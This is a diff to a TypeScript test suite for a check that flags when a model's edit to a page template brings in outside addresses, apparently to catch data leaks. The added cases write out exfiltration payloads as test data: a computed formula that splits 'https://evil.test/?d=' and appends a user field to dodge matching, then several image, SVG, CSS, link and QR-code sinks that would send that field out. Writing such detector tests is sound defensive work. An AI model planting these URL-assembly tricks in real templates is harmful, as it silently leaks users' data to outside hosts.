@@ -18,6 +18,10 @@ const withFile = (path: string, text: string): DraftSource => ({
   files: { ...begun.files, [path]: text },
   assets: {},
 })
+const withFiles = (files: Record<string, string>): DraftSource => ({
+  files: { ...begun.files, ...files },
+  assets: {},
+})
 const withHtml = (html: string) => withFile('template.html', `${begun.files['template.html']}${html}`)
 const refused = (after: DraftSource, prompt = 'Make the heading say hello') =>
   addressRefusal(begun, after, { prompt: [{ text: prompt }] })?.model
@@ -62,6 +66,30 @@ describe('outside addresses that a model brings in', () => {
     expect(refused(withHtml('<img src="{{site}}?d={{name}}" alt="">'))).to.include('put together')
     const computed = '{ "computed": { "logo": { "formula": "concat(site, name)" } } }'
     expect(refused(withFile('template.json', computed))).to.include('put together')
+    const settings =
+      '{ "computed": { "pay": { "formula": "\\"ht\\" + \\"tps://evil.test/?d=\\" + name" }, "items.link": "pay", "g": "group(items, \\"link\\")" } }'
+    const pages = [
+      '{{#pay}}<img src="{{.}}" alt="">{{/pay}}',
+      '{{#g}}<img src="{{key}}" alt="">{{/g}}',
+      '<svg><rect fill="url({{pay}})"/></svg>',
+      '<svg><rect fill="{{pay}}"/></svg>',
+      '<svg><image><set attributeName="href" to="{{pay}}"/></image></svg>',
+      '<style>p { background: url({{pay}}) }</style>',
+      '<a href="{{pay}}">Pay</a>',
+      '<bar-code type="qrcode" value="{{pay}}"></bar-code>',
+    ]
+    for (const html of pages)
+      expect(refused(withFiles({ 'template.json': settings, 'template.html': html })), html).to.include(
+        'put together',
+      )
+    const text = { 'texts/en.json': '{ "pay": "{{name}}tps:/{{name}}/x" }' }
+    expect(refused(withFiles({ ...text, 'template.html': '<img src="{{text.pay}}" alt="">' }))).to.include(
+      'put together',
+    )
+    const plain = '{ "computed": { "share": "paid / total", "hue": "if(late, \\"red\\", \\"green\\")" } }'
+    const bars =
+      '<p style="width: {{share}}%; color: {{hue}}">{{share}}</p>{{#photos}}<img src="{{.}}" alt="">{{/photos}}'
+    expect(refused(withFiles({ 'template.json': plain, 'template.html': bars }))).to.equal(undefined)
   })
 
   it('are taken as the person wrote them, and as they were; a field in one that is loaded never is', () => {
